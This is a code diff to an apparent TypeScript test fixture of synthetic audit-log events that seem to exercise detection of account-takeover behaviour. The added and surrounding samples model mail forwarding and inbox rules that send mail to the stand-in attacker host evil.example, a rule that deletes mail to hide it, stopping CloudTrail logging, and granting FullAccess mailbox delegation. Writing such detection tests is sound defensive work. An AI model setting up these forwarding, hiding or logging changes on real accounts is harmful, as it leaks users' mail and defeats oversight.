@@ -18,6 +18,16 @@ const exchange = (user: string, operation: string, parameters: Record<string, st
     ObjectId: 'bob@corp.example',
     Parameters: Object.entries(parameters).map(([Name, Value]) => ({ Name, Value })),
   });
+/** A rule that was made in Outlook itself. */
+const outlookRule = (user: string, actions: readonly object[]): object =>
+  m365(user, 'UpdateInboxRules', {
+    Workload: 'Exchange',
+    MailboxOwnerUPN: user,
+    OperationProperties: [
+      { Name: 'RuleOperation', Value: 'AddMailboxRule' },
+      { Name: 'RuleActions', Value: JSON.stringify(actions) },
+    ],
+  });
 const entra = (userPrincipalName: string, more: object): object => ({
   id: id(),
   createdDateTime: `${when()}Z`,
@@ -100,8 +110,16 @@ export const PROOFS: Readonly<Record<string, readonly object[]>> = {
     aws('StopLogging', { type: 'IAMUser', userName: 'eve' }, { eventSource: 'cloudtrail.amazonaws.com' }),
   ],
   'mail-forwarding': [exchange('bob@corp.example', 'Set-Mailbox', { ForwardingSmtpAddress: 'smtp:bob@evil.example' })],
-  'forwarding-rule': [exchange('bob@corp.example', 'New-InboxRule', { Name: '.', ForwardTo: 'bob@evil.example' })],
-  'hiding-rule': [exchange('eve@corp.example', 'New-InboxRule', { Name: '..', MoveToFolder: 'RSS Feeds' })],
+  'forwarding-rule': [
+    exchange('bob@corp.example', 'New-InboxRule', { Name: '.', ForwardTo: 'bob@evil.example' }),
+    outlookRule('bob@corp.example', [
+      { Recipients: ['bob@evil.example'], ForwardFlags: 'None', ActionType: 'Forward' },
+    ]),
+  ],
+  'hiding-rule': [
+    exchange('eve@corp.example', 'New-InboxRule', { Name: '..', MoveToFolder: 'RSS Feeds' }),
+    outlookRule('eve@corp.example', [{ ActionType: 'Delete' }]),
+  ],
   'mailbox-delegation': [exchange('admin@corp.example', 'Add-MailboxPermission', { AccessRights: 'FullAccess' })],
   'public-links': [
     m365('bob@corp.example', 'AnonymousLinkCreated', { Workload: 'OneDrive', ObjectId: 'https://x.example/a.docx' }),
